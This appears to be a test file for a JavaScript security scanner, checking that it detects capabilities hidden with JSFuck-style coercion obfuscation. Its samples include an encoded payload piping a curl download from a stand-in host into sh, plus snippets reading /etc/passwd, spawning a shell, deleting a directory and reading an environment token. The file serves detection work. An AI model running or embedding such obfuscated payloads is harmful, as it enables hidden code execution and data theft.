/**
 * Coercion-built strings (the JSFuck / jjencode family): names assembled from `![]`, `+[]`, `[]+{}` and
 * indexing into the strings such values coerce to, up to `[]['flat']['constructor'](code)()`. JSFuck
 * fixtures come from the real encoder at test time.
 */
import { jsfuck } from '../../helpers/obfuscators.js';
import { testEvasionClass } from '../../helpers/evasion-tester.js';

/** A payload that is all `[]()!+`: `[]["flat"]["constructor"](<code>)()`. */
const JSFUCK_SHELL = jsfuck("require('child_process').exec('curl -s https://x.invalid | sh')");
const JSFUCK_MINIMAL = jsfuck('return process');

testEvasionClass('coercion-built strings', {
  flags: [
    {
      code: "[]['filter']['constructor']('return process')()",
      findings: [{ capability: 'eval', line: 1, column: 1, api: 'Function', confidence: 'medium' }],
    },
    {
      code: "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]['constructor'](code)()",
      findings: [{ capability: 'eval', line: 1, column: 1, api: 'Function', confidence: 'medium' }],
    },
    {
      name: 'JSFuck-encoded Function code (a shell payload; its helpers compiled with Function too)',
      code: JSFUCK_SHELL,
      repeats: true,
      findings: [{ capability: 'eval', line: 1, column: 1, api: 'Function', confidence: 'medium' }],
    },
    {
      name: 'JSFuck-encoded Function code (return process)',
      code: JSFUCK_MINIMAL,
      findings: [{ capability: 'eval', line: 1, column: 1, api: 'Function', confidence: 'medium' }],
    },
    {
      code: "require((![]+[])[+[]] + 's').readFileSync('/etc/passwd')",
      module: 'cjs',
      findings: [
        { capability: 'filesystem', line: 1, column: 1, api: 'fs', confidence: 'medium' },
        { capability: 'filesystem', line: 1, column: 1, api: 'fs.readFileSync', confidence: 'medium' },
      ],
    },
    {
      code: "globalThis[(!![]+[])[!+[]+!+[]+!+[]] + 'val']('1 + 1')",
      findings: [{ capability: 'eval', line: 1, column: 1, api: 'eval', confidence: 'medium' }],
    },
    {
      code: "const cp = require('child_process');\ncp[(![]+[])[3] + 'p' + (![]+[])[1] + 'w' + ([][[]]+[])[1]]('sh')",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 1, column: 12, api: 'child_process', confidence: 'high' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process.spawn', confidence: 'medium' },
      ],
    },
    {
      code: "const m = ['fs', 'os'][+[]];\nrequire(m).rmSync(dir, { recursive: true })",
      module: 'cjs',
      findings: [
        { capability: 'filesystem', line: 2, column: 1, api: 'fs', confidence: 'medium' },
        { capability: 'filesystem', line: 2, column: 1, api: 'fs.rmSync', confidence: 'medium' },
      ],
    },
    {
      code: "const o = ([]+{});\nprocess[o[o.length - 4] + 'nv'].TOKEN",
      findings: [{ capability: 'env', line: 2, column: 1, api: 'process.env.TOKEN', confidence: 'medium' }],
    },
  ],
  clean: [
    'const yes = !![];\nconst no = ![];\nconst empty = [] + {};',
    'const s = (![]+[])[+[]];\nconsole.log(s)',
    '[1, 2].filter(Boolean).constructor(3)',
    "({}).constructor('x');\n[].constructor(3);\n''['constructor']('x');\n(0)['constructor'](1)",
    "const label = (!![] + '')[0] + 'ag';\nwindow[label] = 1",
    'const n = +[] + +!![];\nitems[n]()',
  ],
});
